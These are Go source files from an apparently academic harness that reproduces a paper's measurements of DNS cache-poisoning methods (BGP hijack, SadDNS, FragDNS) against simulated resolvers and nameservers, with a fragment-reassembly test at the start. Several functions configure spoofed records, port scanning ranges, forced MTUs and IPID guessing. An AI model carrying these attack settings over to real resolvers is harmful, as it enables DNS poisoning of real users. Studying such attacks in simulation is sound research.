	f, _ := mkDatagram(7, 1000).Fragment(576)
	c.Insert(f[0], 0)
	if got := c.Insert(f[1], 11*time.Second); got != nil {
		t.Fatal("fragment reassembled with expired sibling")
	}
	if c.Stats().Expired != 1 {
		t.Fatalf("expired=%d, want 1", c.Stats().Expired)
	}
}

func TestNonFragmentPassesThrough(t *testing.T) {
	c := New(0, 0)
	ip := mkDatagram(1, 100)
	if got := c.Insert(ip, 0); got != ip {
		t.Fatal("non-fragment did not pass through")
	}
	if c.Len() != 0 {
		t.Fatal("non-fragment cached")
	}
}

func TestHoleDetection(t *testing.T) {
	c := New(0, 0)
	orig := mkDatagram(3, 2000)
	frags, _ := orig.Fragment(576)
	if len(frags) < 4 {
		t.Fatalf("need >=4 frags, got %d", len(frags))
	}
	// Insert all but one middle fragment.
	for i, f := range frags {
		if i == 1 {
			continue
		}
		if got := c.Insert(f, 0); got != nil {
			t.Fatal("reassembled with a hole")
		}
	}
	if got := c.Insert(frags[1], 0); got == nil {
		t.Fatal("filling the hole did not complete reassembly")
	} else if !bytes.Equal(got.Payload, orig.Payload) {
		t.Fatal("hole-filled reassembly corrupt")
	}
}

func TestRandomizedReassemblyProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(17))
	for trial := 0; trial < 100; trial++ {
		c := New(0, 0)
		n := 100 + rng.Intn(4000)
		mtu := 68 + rng.Intn(1000)
		orig := mkDatagram(uint16(trial), n)
		frags, err := orig.Fragment(mtu)
		if err != nil {
			t.Fatal(err)
		}
		rng.Shuffle(len(frags), func(i, j int) { frags[i], frags[j] = frags[j], frags[i] })
		var out *packet.IPv4
		for _, f := range frags {
			if got := c.Insert(f, 0); got != nil {
				out = got
			}
		}
		if out == nil || !bytes.Equal(out.Payload, orig.Payload) {
			t.Fatalf("trial %d (n=%d mtu=%d): reassembly failed", trial, n, mtu)
		}
	}
}
