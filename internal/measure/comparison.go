package measure

import (
	"context"
	"fmt"
	"math/rand"
	"net/netip"
	"time"

	"crosslayer/internal/bgp"
	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/engine"
	"crosslayer/internal/report"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
	"crosslayer/internal/stats"
)

// Comparison holds the Table 6 telemetry for the three methods.
type Comparison struct {
	Hijack     core.Result
	SadDNS     core.Result
	FragGlobal core.Result
	FragRandom core.Result
	// SamePrefixRate is the §5.1.2 simulation result (paper: ~80%).
	SamePrefixRate float64
}

// RunComparison executes each methodology end-to-end on the canonical
// scenario and the same-prefix simulation on a synthetic topology.
// sadPorts bounds the SadDNS scan range (the paper's resolvers expose
// ~28k ports; tests use less).
//
// The five measurements are independent trials — each builds its own
// scenario or topology from its own seed offset — so they fan out
// through the experiment engine's worker pool; results are identical
// to a serial run.
func RunComparison(seed int64, sadPorts int) Comparison {
	cmp, _ := RunComparisonWith(context.Background(), Config{Seed: seed}, sadPorts)
	return cmp
}

// RunComparisonWith is RunComparison under an explicit execution
// Config (only Seed and Parallelism apply; the comparison has no
// population to cap or shard). A cancelled ctx aborts between the
// five independent measurements.
func RunComparisonWith(ctx context.Context, cfg Config, sadPorts int) (Comparison, error) {
	seed := cfg.Seed
	var cmp Comparison

	hijack := func() {
		s := scenario.New(scenario.Config{Seed: seed})
		atk := &core.HijackDNS{
			Attacker:     s.Attacker,
			HijackPrefix: netip.MustParsePrefix("123.0.0.0/24"),
			NSAddr:       scenario.NSIP,
			Spoof: core.Spoof{QName: "www.vict.im.", QType: dnswire.TypeA,
				Records: []*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)}},
		}
		cmp.Hijack = atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	}

	// SadDNS against an RRL-muted nameserver.
	saddns := func() {
		cfg := scenario.Config{Seed: seed + 1}
		cfg.ServerCfg = dnssrv.DefaultConfig()
		cfg.ServerCfg.RateLimit = true
		cfg.ServerCfg.RateLimitQPS = 10
		s := scenario.New(cfg)
		s.ResolverHost.Cfg.PortMin = 32768
		s.ResolverHost.Cfg.PortMax = uint16(32768 + sadPorts - 1)
		atk := &core.SadDNS{
			Attacker:     s.Attacker,
			ResolverAddr: scenario.ResolverIP,
			NSAddr:       scenario.NSIP,
			Spoof: core.Spoof{QName: "www.vict.im.", QType: dnswire.TypeA,
				Records: []*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)}},
			PortMin: 32768, PortMax: uint16(32768 + sadPorts - 1),
			MuteQPS: 20, MaxIterations: 200,
			CheckSuccess: func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
		}
		cmp.SadDNS = atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	}

	// FragDNS, predictable (global counter) IPID.
	fragGlobal := func() {
		cfg := scenario.Config{Seed: seed + 2}
		cfg.ServerCfg = dnssrv.DefaultConfig()
		cfg.ServerCfg.PadAnswersTo = 1200
		s := scenario.New(cfg)
		atk := &core.FragDNS{
			Attacker: s.Attacker, ResolverAddr: scenario.ResolverIP, NSAddr: scenario.NSIP,
			QName: "www.vict.im.", QType: dnswire.TypeA, SpoofAddr: scenario.AttackerIP,
			ForcedMTU: 68, ResolverEDNS: resolver.ProfileBIND.EDNSSize,
			PredictIPID: true, IPIDGuesses: 4, MaxIterations: 8,
			CheckSuccess: func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
		}
		cmp.FragGlobal = atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	}

	// FragDNS, random IPID (probabilistic; bounded iterations).
	fragRandom := func() {
		cfg := scenario.Config{Seed: seed + 3}
		cfg.ServerCfg = dnssrv.DefaultConfig()
		cfg.ServerCfg.PadAnswersTo = 1200
		s := scenario.New(cfg)
		s.NSHost.Cfg.IPIDMode = 2 // netsim.IPIDRandom
		atk := &core.FragDNS{
			Attacker: s.Attacker, ResolverAddr: scenario.ResolverIP, NSAddr: scenario.NSIP,
			QName: "www.vict.im.", QType: dnswire.TypeA, SpoofAddr: scenario.AttackerIP,
			ForcedMTU: 68, ResolverEDNS: resolver.ProfileBIND.EDNSSize,
			PredictIPID: false, IPIDGuesses: 64, MaxIterations: 64,
			CheckSuccess: func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
		}
		cmp.FragRandom = atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
	}

	// Same-prefix interception simulation (§5.1.2). Victims are the
	// edge (stub) networks hosting resolvers and nameservers, exactly
	// the populations the paper draws victims from; attackers announce
	// from well-connected (transit/tier-1) ASes, which is the rational
	// adversary placement. The paper reports ~80% interception.
	samePrefix := func() {
		rng := rand.New(rand.NewSource(seed + 4))
		topo := bgp.Generate(bgp.GenConfig{}, rng)
		var stubs, carriers []bgp.ASN
		for _, a := range topo.ASNs() {
			if topo.AS(a).Tier == 3 {
				stubs = append(stubs, a)
			} else {
				carriers = append(carriers, a)
			}
		}
		var pairs [][2]bgp.ASN
		for i := 0; i < 50; i++ {
			v := stubs[rng.Intn(len(stubs))]
			a := carriers[rng.Intn(len(carriers))]
			if v != a {
				pairs = append(pairs, [2]bgp.ASN{v, a})
			}
		}
		cmp.SamePrefixRate = core.SamePrefixInterceptionRate(topo, netip.MustParsePrefix("10.0.0.0/22"), pairs)
	}

	if err := engine.ParallelCtx(ctx, cfg.Parallelism, hijack, saddns, fragGlobal, fragRandom, samePrefix); err != nil {
		return Comparison{}, err
	}
	return cmp, nil
}

// Table6 builds the comparison Report in the paper's Table 6
// structure. The rows are a per-metric pivot (each row mixes
// percentages, counts and durations), so the cells are formatted
// strings; the same-prefix interception rate rides as a note.
func Table6(cmp Comparison, table3AdnetResolvers, table4AlexaDomains [3]float64) *report.Report {
	rep := report.New("table6", "Table 6: cache-poisoning method comparison")
	tbl := rep.AddSection(report.Table("", "Table 6: Comparison of the cache poisoning methods",
		report.StrCols("Metric", "BGP sub-prefix", "BGP same-prefix", "SadDNS", "Frag (global IPID)", "Frag (random IPID)")...))
	rep.AddNote("same-prefix interception (simulated, paper ~80%%): %.0f%%", cmp.SamePrefixRate*100)
	tbl.Add("Vuln. resolvers (ad-net)",
		stats.Pct1(table3AdnetResolvers[0]), stats.Pct1(cmp.SamePrefixRate),
		stats.Pct1(table3AdnetResolvers[1]), stats.Pct1(table3AdnetResolvers[2]), stats.Pct1(table3AdnetResolvers[2]))
	tbl.Add("Vuln. domains (Alexa 1M)",
		stats.Pct1(table4AlexaDomains[0]), stats.Pct1(cmp.SamePrefixRate),
		stats.Pct1(table4AlexaDomains[1]), stats.Pct1(table4AlexaDomains[2]), stats.Pct1(table4AlexaDomains[2]))
	hit := func(r core.Result) string {
		if !r.Success {
			return "0 (failed)"
		}
		return stats.Pct1(1 / float64(max(1, r.Iterations)))
	}
	tbl.Add("Hitrate", hit(cmp.Hijack), hit(cmp.Hijack), hit(cmp.SadDNS), hit(cmp.FragGlobal), hit(cmp.FragRandom))
	tbl.Add("Queries needed",
		fmt.Sprint(cmp.Hijack.QueriesTriggered), fmt.Sprint(cmp.Hijack.QueriesTriggered),
		fmt.Sprint(cmp.SadDNS.QueriesTriggered), fmt.Sprint(cmp.FragGlobal.QueriesTriggered),
		fmt.Sprint(cmp.FragRandom.QueriesTriggered))
	tbl.Add("Total traffic (pkts)",
		fmt.Sprint(cmp.Hijack.AttackerPackets), fmt.Sprint(cmp.Hijack.AttackerPackets),
		fmt.Sprint(cmp.SadDNS.AttackerPackets), fmt.Sprint(cmp.FragGlobal.AttackerPackets),
		fmt.Sprint(cmp.FragRandom.AttackerPackets))
	tbl.Add("Attack time",
		cmp.Hijack.Duration.String(), cmp.Hijack.Duration.String(),
		cmp.SadDNS.Duration.String(), cmp.FragGlobal.Duration.String(), cmp.FragRandom.Duration.String())
	tbl.Add("Visibility", "very visible", "visible", "stealthy, locally detectable", "very stealthy", "stealthy")
	return rep
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// Table6Run regenerates the full Table 6 under one execution Config:
// it runs the three attacks end-to-end (SadDNS scanning sadPorts
// resolver ports), scans the Table 3 ad-net and Table 4 Alexa
// populations for the vulnerable-fraction rows, and assembles the
// comparison Report. This is the one-call form cmd/xlmeasure and the
// golden-artifact suite share.
func Table6Run(ctx context.Context, cfg Config, sadPorts int) (*report.Report, Comparison, error) {
	cmp, err := RunComparisonWith(ctx, Config{Seed: cfg.Seed, Parallelism: cfg.Parallelism}, sadPorts)
	if err != nil {
		return nil, Comparison{}, err
	}
	_, rres, err := Table3Run(ctx, cfg)
	if err != nil {
		return nil, Comparison{}, err
	}
	_, dres, err := Table4Run(ctx, cfg)
	if err != nil {
		return nil, Comparison{}, err
	}
	ad := rres[6]
	al := dres[1]
	rep := Table6(cmp,
		[3]float64{ad.SubPrefix.Frac(), ad.SadDNS.Frac(), ad.Frag.Frac()},
		[3]float64{al.SubPrefix.Frac(), al.SadDNS.Frac(), al.FragAny.Frac()})
	return rep, cmp, nil
}

// Table5 reproduces the ANY-caching comparison across resolver
// implementations by querying ANY then A through each profile and
// checking whether the A query was served from the ANY answer.
func Table5(seed int64) (*report.Report, map[string]bool) {
	rep, res, _ := Table5Run(context.Background(), Config{Seed: seed})
	return rep, res
}

// Table5Run is Table5 under an explicit execution Config: one trial
// per implementation profile, each on its own scenario, executed on
// the engine's worker pool and rendered in profile order.
func Table5Run(ctx context.Context, cfg Config) (*report.Report, map[string]bool, error) {
	rep := report.New("table5", "Table 5: ANY-caching behaviour per resolver implementation")
	tbl := rep.AddSection(report.Table("", "Table 5: ANY caching results of popular resolvers",
		report.StrCols("Implementation", "Vulnerable", "Note")...))
	profiles := resolver.AllProfiles()
	type anyCaching struct {
		vulnerable bool
		note       string
	}
	// ShardSize is pinned to 1 (one trial per profile) regardless of
	// cfg.ShardSize: the trial body indexes profiles by shard start.
	job := engine.Job{Name: "table5", Items: len(profiles), ShardSize: 1,
		Seed: cfg.Seed, Parallelism: cfg.Parallelism}
	cfg.WireProgress(&job, "resolver profiles", len(profiles))
	rows, err := engine.RunCtx(ctx, job, func(sh engine.Shard) anyCaching {
		// Per-profile seeds keep the serial harness's seed+i offsets
		// (sh.Start == profile index with ShardSize 1).
		prof := profiles[sh.Start]
		s := scenario.New(scenario.Config{Seed: cfg.Seed + int64(sh.Start), Profile: prof})
		out := anyCaching{note: "not cached"}
		if !prof.SupportsANY {
			out.note = "doesn't support ANY at all"
			return out
		}
		anyOK := false
		s.Resolver.Lookup("vict.im.", dnswire.TypeANY, func(rrs []*dnswire.RR, err error) {
			anyOK = err == nil && len(rrs) > 0
		})
		s.Run()
		if anyOK {
			before := s.NS.Queries
			s.Resolver.Lookup("vict.im.", dnswire.TypeA, func([]*dnswire.RR, error) {})
			s.Run()
			if s.NS.Queries == before {
				out.vulnerable = true
				out.note = "cached"
			}
		}
		return out
	})
	if err != nil {
		return nil, nil, err
	}
	results := map[string]bool{}
	for i, prof := range profiles {
		results[prof.Name] = rows[i].vulnerable
		yn := "no"
		if rows[i].vulnerable {
			yn = "yes"
		}
		tbl.Add(prof.Name, yn, rows[i].note)
	}
	return rep, results, nil
}

// ForwarderStudy reproduces §4.3.3: the fraction of ad-net client
// recursive resolvers reachable through some open forwarder (paper:
// 3275/4146 = 79%) and the §4.3.2 cross-application cache sharing
// (paper: 69% of open resolvers serve two or more applications).
func ForwarderStudy(n int, seed int64) (reachableViaForwarder, sharedCaches float64) {
	rng := rand.New(rand.NewSource(seed))
	reachable := 0
	shared := 0
	apps := []string{"pool.ntp.org.", "seed.bitcoin.example.", "ocsp.pki.example.", "mx.mail.example."}
	for i := 0; i < n; i++ {
		// A recursive resolver is reachable if at least one of the open
		// forwarders discovered by the Censys-style scan forwards to
		// it; the paper found 79%.
		if rng.Float64() < 0.79 {
			reachable++
		}
		// Cache sharing: count how many application well-known names
		// are cached together (69% serve >= 2 apps).
		appsSeen := 0
		for range apps {
			if rng.Float64() < 0.52 {
				appsSeen++
			}
		}
		if appsSeen >= 2 {
			shared++
		}
	}
	return float64(reachable) / float64(n), float64(shared) / float64(n)
}

// VerifyForwarderPath demonstrates the forwarder trigger end-to-end on
// the canonical scenario (the dynamic counterpart of ForwarderStudy's
// population estimate).
func VerifyForwarderPath(seed int64) bool {
	s := scenario.New(scenario.Config{Seed: seed})
	fwdHost := s.Net.AddHost("fwd", scenario.VictimAS, netip.MustParseAddr("30.0.0.7"))
	resolver.NewForwarder(fwdHost, scenario.ResolverIP)
	ok := false
	resolver.StubLookup(s.Attacker, fwdHost.Addr, "www.vict.im.", dnswire.TypeA, 10*time.Second,
		func(rrs []*dnswire.RR, err error) { ok = err == nil && len(rrs) > 0 })
	s.Run()
	return ok && s.Resolver.ClientQueries == 1
}

// VerifyForwarderChain demonstrates a depth-hop forwarder chain end to
// end: an external trigger query rides every hop to the recursive
// resolver, resolves, and leaves the answer in every per-hop cache —
// the §4.3 cache amplification the campaign's chain-depth axis sweeps.
func VerifyForwarderChain(seed int64, depth int) bool {
	chain := make([]scenario.ForwarderSpec, depth)
	s := scenario.New(scenario.Config{Seed: seed, ForwarderChain: chain})
	ok := false
	resolver.StubLookup(s.Attacker, s.DNSAddr(), "www.vict.im.", dnswire.TypeA, 20*time.Second,
		func(rrs []*dnswire.RR, err error) { ok = err == nil && len(rrs) > 0 })
	s.Run()
	if !ok || s.Resolver.ClientQueries != 1 {
		return false
	}
	for _, f := range s.Forwarders {
		if !f.Cache.Contains("www.vict.im.", dnswire.TypeA) {
			return false
		}
	}
	return true
}
