package measure

import (
	"crosslayer/internal/engine"
	"crosslayer/internal/report"
)

// Config controls how an experiment regeneration executes. The zero
// value means: full paper-size populations, seed 0, one shard per
// DefaultShardSize items, GOMAXPROCS workers, no progress reporting.
//
// Determinism contract: SampleCap, Seed and ShardSize select WHICH
// population is synthesized and how it is cut into shards, so they
// change results; Parallelism and Progress only schedule and observe
// the work, so for a fixed (SampleCap, Seed, ShardSize) every
// Parallelism value yields byte-identical tables and figures.
type Config struct {
	// SampleCap bounds the population sampled per dataset; <= 0 means
	// no cap, i.e. the full paper-size population (which reaches
	// 1.58M resolvers; see DESIGN.md for calibration).
	SampleCap int
	// Seed is the base population seed. Per-dataset seeds are offset
	// from it exactly as the serial harness always did, and per-shard
	// seeds are derived with engine.DeriveSeed.
	Seed int64
	// Parallelism is the worker count; 0 means GOMAXPROCS.
	Parallelism int
	// ShardSize is the population items simulated per shard; 0 means
	// engine.DefaultShardSize.
	ShardSize int
	// Progress, when non-nil, observes shard completions per dataset.
	// Calls are serialized.
	Progress func(ev ProgressEvent)
}

// ProgressEvent reports one shard completion within a dataset scan.
// It is the report registry's Progress event — one shape for every
// experiment, so a Spec.Progress callback observes measure scans and
// campaign sweeps alike.
type ProgressEvent = report.Progress

// ConfigFromSpec projects the registry's uniform run Spec onto the
// measure execution Config (the campaign package does the same for
// its sweep dimensions).
func ConfigFromSpec(spec report.Spec) Config {
	return Config{
		SampleCap:   spec.SampleCap,
		Seed:        spec.Seed,
		Parallelism: spec.Parallelism,
		ShardSize:   spec.ShardSize,
		Progress:    spec.Progress,
	}
}

// forDataset returns the config with the seed offset for the i-th
// dataset of a table — the same +i offsets the serial harness used,
// kept so dataset populations stay decoupled from each other.
func (cfg Config) forDataset(i int) Config {
	cfg.Seed += int64(i)
	return cfg
}

// cap returns the population size to sample from a dataset of
// paperSize items: SampleCap bounds it, and SampleCap <= 0 means the
// full population.
func (cfg Config) cap(paperSize int) int {
	if cfg.SampleCap > 0 && paperSize > cfg.SampleCap {
		return cfg.SampleCap
	}
	return paperSize
}

// maxShardSize caps how many population items one fleet may hold: the
// 10.x.y.z fleet address scheme packs the item index into two address
// bytes, so a single simulated network can host at most 2^16 items
// before addresses would collide. Shards above the cap are clamped
// (still deterministically — the clamp depends only on the requested
// shard size).
const maxShardSize = 1 << 16

// job builds the engine job for scanning n items of the named dataset,
// wiring the progress callback through.
func (cfg Config) job(dataset string, n int) engine.Job {
	size := cfg.ShardSize
	if size > maxShardSize {
		size = maxShardSize
	}
	j := engine.Job{
		Name:        dataset,
		Items:       n,
		ShardSize:   size,
		Seed:        cfg.Seed,
		Parallelism: cfg.Parallelism,
	}
	cfg.WireProgress(&j, dataset, n)
	return j
}

// WireProgress points the job's completion hook at cfg.Progress (a
// no-op when no progress callback is configured). It is exported for
// experiment packages that plan their own engine jobs (e.g. the
// campaign sweep) but report progress through the same channel.
func (cfg Config) WireProgress(j *engine.Job, dataset string, items int) {
	if cfg.Progress == nil {
		return
	}
	progress := cfg.Progress
	j.OnTrialDone = func(done, total int) {
		progress(ProgressEvent{Dataset: dataset, DoneShards: done, TotalShards: total, Items: items})
	}
}
