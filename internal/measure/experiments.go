package measure

import (
	"context"

	"crosslayer/internal/report"
)

// This file wires the measurement harness into the experiment
// registry: every table and figure of the paper's evaluation — plus
// the same-prefix and forwarder population studies — self-registers
// under its canonical name, in artifact order. The campaign sweep
// registers from internal/campaign (which imports this package, so
// the registry always lists the measure artifacts first).

// Per-experiment defaults for the end-to-end SadDNS runs (the paper's
// resolvers expose ~28k ephemeral ports; the scans are linear in the
// range, so the defaults keep the registry runs tractable while
// Spec.SadPorts can widen them).
const (
	defaultTable6SadPorts     = 2000
	defaultSameHijackSadPorts = 400
)

func sadPorts(spec report.Spec, def int) int {
	if spec.SadPorts > 0 {
		return spec.SadPorts
	}
	return def
}

func init() {
	report.Register(report.Experiment{
		Name: "table1", Title: "Table 1: applications attackable via DNS cache poisoning",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			// Static paper matrix: no population, no params.
			return Table1(), nil
		},
	})
	report.Register(report.Experiment{
		Name: "table2", Title: "Table 2: middlebox query-triggering survey",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			return Table2(), nil
		},
	})
	report.Register(report.Experiment{
		Name: "table3", Title: "Table 3: vulnerable resolvers per dataset",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			rep, _, err := Table3Run(ctx, ConfigFromSpec(spec))
			if err != nil {
				return nil, err
			}
			return report.BaseParams(rep, spec), nil
		},
	})
	report.Register(report.Experiment{
		Name: "table4", Title: "Table 4: vulnerable domains per dataset",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			rep, _, err := Table4Run(ctx, ConfigFromSpec(spec))
			if err != nil {
				return nil, err
			}
			return report.BaseParams(rep, spec), nil
		},
	})
	report.Register(report.Experiment{
		Name: "table5", Title: "Table 5: ANY-caching behaviour per resolver implementation",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			rep, _, err := Table5Run(ctx, ConfigFromSpec(spec))
			if err != nil {
				return nil, err
			}
			return report.BaseParams(rep, spec), nil
		},
	})
	report.Register(report.Experiment{
		Name: "table6", Title: "Table 6: cache-poisoning method comparison",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			ports := sadPorts(spec, defaultTable6SadPorts)
			rep, _, err := Table6Run(ctx, ConfigFromSpec(spec), ports)
			if err != nil {
				return nil, err
			}
			return report.BaseParams(rep, spec).AddParam("sad_ports", ports), nil
		},
	})
	report.Register(report.Experiment{
		Name: "fig3", Title: "Figure 3: announced covering-prefix lengths",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			rep, _, err := Figure3Run(ctx, ConfigFromSpec(spec))
			if err != nil {
				return nil, err
			}
			return report.BaseParams(rep, spec), nil
		},
	})
	report.Register(report.Experiment{
		Name: "fig4", Title: "Figure 4: EDNS buffer sizes vs minimum fragment sizes",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			rep, _, _, err := Figure4Run(ctx, ConfigFromSpec(spec))
			if err != nil {
				return nil, err
			}
			return report.BaseParams(rep, spec), nil
		},
	})
	report.Register(report.Experiment{
		Name: "fig5", Title: "Figure 5: vulnerability overlap across methods",
		Run: func(ctx context.Context, spec report.Spec) (*report.Report, error) {
			rep, _, _, err := Figure5Run(ctx, ConfigFromSpec(spec))
			if err != nil {
				return nil, err
			}
			return report.BaseParams(rep, spec), nil
		},
	})
	report.Register(report.Experiment{
		Name: "samehijack", Title: "Same-prefix BGP interception study (§5.1.2)",
		Run: runSameHijack,
	})
	report.Register(report.Experiment{
		Name: "forwarders", Title: "Open-forwarder reachability and cache-sharing study (§4.3)",
		Run: runForwarders,
	})
}

// runSameHijack builds the same-prefix interception report: the three
// end-to-end attacks plus the topology simulation, reduced to the one
// rate the paper quotes (~80%).
func runSameHijack(ctx context.Context, spec report.Spec) (*report.Report, error) {
	ports := sadPorts(spec, defaultSameHijackSadPorts)
	cmp, err := RunComparisonWith(ctx, ConfigFromSpec(spec), ports)
	if err != nil {
		return nil, err
	}
	rep := report.New("samehijack", "Same-prefix BGP interception study (§5.1.2)")
	report.BaseParams(rep, spec).AddParam("sad_ports", ports)
	rep.AddSection(report.Table("", "Same-prefix hijack interception",
		report.Col("Metric", report.KindString),
		report.Col("Measured", report.KindPct1),
		report.Col("Paper", report.KindString))).
		Add("Interception over random (stub victim, carrier attacker) AS pairs", cmp.SamePrefixRate, "~80%")
	return rep, nil
}

// runForwarders builds the forwarder-study report: the §4.3
// population estimates plus the dynamic end-to-end chain checks. The
// three stages are not shard jobs, so cancellation is honoured
// between them.
func runForwarders(ctx context.Context, spec report.Spec) (*report.Report, error) {
	n := spec.SampleCap
	if n <= 0 {
		n = 10000
	}
	reach, shared := ForwarderStudy(n, spec.Seed)
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	rep := report.New("forwarders", "Open-forwarder reachability and cache-sharing study (§4.3)")
	report.BaseParams(rep, spec)
	rep.AddSection(report.Table("population", "Forwarder population estimates",
		report.Col("Metric", report.KindString),
		report.Col("Measured", report.KindPct1),
		report.Col("Paper", report.KindString))).
		Add("Recursive resolvers reachable via an open forwarder", reach, "79%").
		Add("Open resolvers with cross-application shared caches", shared, "69%")
	yn := func(ok bool) string {
		if ok {
			return "yes"
		}
		return "no"
	}
	pathOK := VerifyForwarderPath(spec.Seed)
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	rep.AddSection(report.Table("checks", "Dynamic end-to-end checks",
		report.StrCols("Check", "Passed")...)).
		Add("Forwarder trigger reaches the recursive resolver", yn(pathOK)).
		Add("Depth-3 forwarder chain resolves and fills every per-hop cache", yn(VerifyForwarderChain(spec.Seed, 3)))
	return rep, nil
}
