package measure

import (
	"fmt"
	"strings"

	"crosslayer/internal/stats"
)

// Figure3 builds the announced-prefix-length CDFs for open-resolver
// and ad-net resolver populations and the Alexa nameserver population
// (paper Figure 3).
func Figure3(sampleCap int, seed int64) (string, map[string]*stats.CDF) {
	curves := map[string]*stats.CDF{}

	build := func(label string, lens []float64) *stats.CDF {
		c := stats.NewCDF(lens)
		curves[label] = c
		return c
	}

	specs := Table3Datasets()
	var openLens, adnetLens []float64
	for _, pick := range []struct {
		idx  int
		dst  *[]float64
		name string
	}{{7, &openLens, "open"}, {6, &adnetLens, "adnet"}} {
		spec := specs[pick.idx]
		n := spec.PaperSize
		if n > sampleCap {
			n = sampleCap
		}
		fleet := NewResolverFleet(spec, n, seed+int64(pick.idx))
		for _, sr := range fleet.Resolvers {
			*pick.dst = append(*pick.dst, float64(sr.AnnouncedPrefix.Bits()))
		}
	}
	dspec := Table4Datasets()[1] // Alexa 1M nameservers
	n := dspec.PaperSize
	if n > sampleCap {
		n = sampleCap
	}
	dfleet := NewDomainFleet(dspec, n, seed+100)
	var nsLens []float64
	for _, d := range dfleet.Domains {
		nsLens = append(nsLens, float64(d.AnnouncedPrefix.Bits()))
	}

	var sb strings.Builder
	sb.WriteString("== Figure 3: Announced prefixes (fraction per length) ==\n")
	xs := make([]float64, 0, 14)
	for b := 11; b <= 24; b++ {
		xs = append(xs, float64(b))
	}
	for _, c := range []struct {
		label string
		cdf   *stats.CDF
	}{
		{"Resolvers: Open resolver", build("open", openLens)},
		{"Resolvers: Adnet", build("adnet", adnetLens)},
		{"Nameservers: Alexa", build("alexa-ns", nsLens)},
	} {
		prev := 0.0
		fmt.Fprintf(&sb, "%s (n=%d)\n", c.label, c.cdf.Len())
		for _, x := range xs {
			p := c.cdf.At(x)
			share := p - prev
			prev = p
			bar := strings.Repeat("#", int(share*100+0.5))
			fmt.Fprintf(&sb, "  /%-2.0f |%-50s| %5.1f%%\n", x, bar, share*100)
		}
	}
	return sb.String(), curves
}

// Figure4 renders resolver EDNS buffer sizes against nameserver
// minimum fragment sizes (paper Figure 4).
func Figure4(sampleCap int, seed int64) (string, *stats.CDF, *stats.CDF) {
	// Resolver EDNS sizes: measured server-side during the frag scan of
	// the open-resolver dataset.
	spec := Table3Datasets()[7]
	n := spec.PaperSize
	if n > sampleCap {
		n = sampleCap
	}
	fleet := NewResolverFleet(spec, n, seed)
	rres := ScanResolverFleet(fleet)
	edns := stats.NewCDF(rres.EDNSSizes)

	// Nameserver min fragment sizes: PMTUD sweep over the eduroam
	// dataset (the most fragmentation-prone one).
	dspec := Table4Datasets()[0]
	dn := dspec.PaperSize
	if dn > sampleCap {
		dn = sampleCap
	}
	dfleet := NewDomainFleet(dspec, dn, seed+1)
	dres := ScanDomainFleet(dfleet)
	frag := stats.NewCDF(dres.MinFragSizes)

	xs := []float64{68, 292, 548, 1500, 2048, 3072, 4096}
	var sb strings.Builder
	sb.WriteString("== Figure 4: resolver EDNS UDP size vs minimum fragment size ==\n")
	sb.WriteString(edns.RenderASCII("EDNS size of resolvers", xs, "%6.0f"))
	sb.WriteString(frag.RenderASCII("minimum fragment size of nameservers", xs, "%6.0f"))
	return sb.String(), edns, frag
}

// Figure5 builds the Venn partitions of vulnerable resolvers and
// domains across the three methods (paper Figure 5).
func Figure5(sampleCap int, seed int64) (string, stats.Venn3, stats.Venn3) {
	var rMembers, dMembers []uint8
	_, rres := Table3(sampleCap, seed)
	for _, r := range rres {
		rMembers = append(rMembers, r.Membership...)
	}
	_, dres := Table4(sampleCap, seed+50)
	for _, d := range dres {
		dMembers = append(dMembers, d.Membership...)
	}
	labels := [3]string{"HijackDNS", "SadDNS", "FragDNS"}
	rv := stats.NewVenn3(labels, rMembers)
	dv := stats.NewVenn3(labels, dMembers)
	var sb strings.Builder
	sb.WriteString("== Figure 5a: vulnerable resolvers (sampled) ==\n")
	sb.WriteString(rv.String())
	sb.WriteString("\n== Figure 5b: vulnerable domains (sampled) ==\n")
	sb.WriteString(dv.String())
	sb.WriteString("\n")
	return sb.String(), rv, dv
}
