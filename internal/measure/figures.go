package measure

import (
	"fmt"
	"strings"

	"crosslayer/internal/engine"
	"crosslayer/internal/stats"
)

// prefixLenCDF synthesizes (without scanning) the resolver population
// of one dataset shard-by-shard and returns the CDF of announced
// covering-prefix lengths, merged in shard order.
func prefixLenCDF(spec ResolverDatasetSpec, n int, cfg Config) *stats.CDF {
	parts := engine.Run(cfg.job(spec.Name, n), func(sh engine.Shard) *stats.CDF {
		fleet := NewResolverFleetShard(spec, sh)
		lens := make([]float64, 0, len(fleet.Resolvers))
		for _, sr := range fleet.Resolvers {
			lens = append(lens, float64(sr.AnnouncedPrefix.Bits()))
		}
		return stats.NewCDF(lens)
	})
	return stats.MergeCDFs(parts...)
}

// nsPrefixLenCDF is prefixLenCDF for a domain (nameserver) dataset.
func nsPrefixLenCDF(spec DomainDatasetSpec, n int, cfg Config) *stats.CDF {
	parts := engine.Run(cfg.job(spec.Name, n), func(sh engine.Shard) *stats.CDF {
		fleet := NewDomainFleetShard(spec, sh)
		lens := make([]float64, 0, len(fleet.Domains))
		for _, d := range fleet.Domains {
			lens = append(lens, float64(d.AnnouncedPrefix.Bits()))
		}
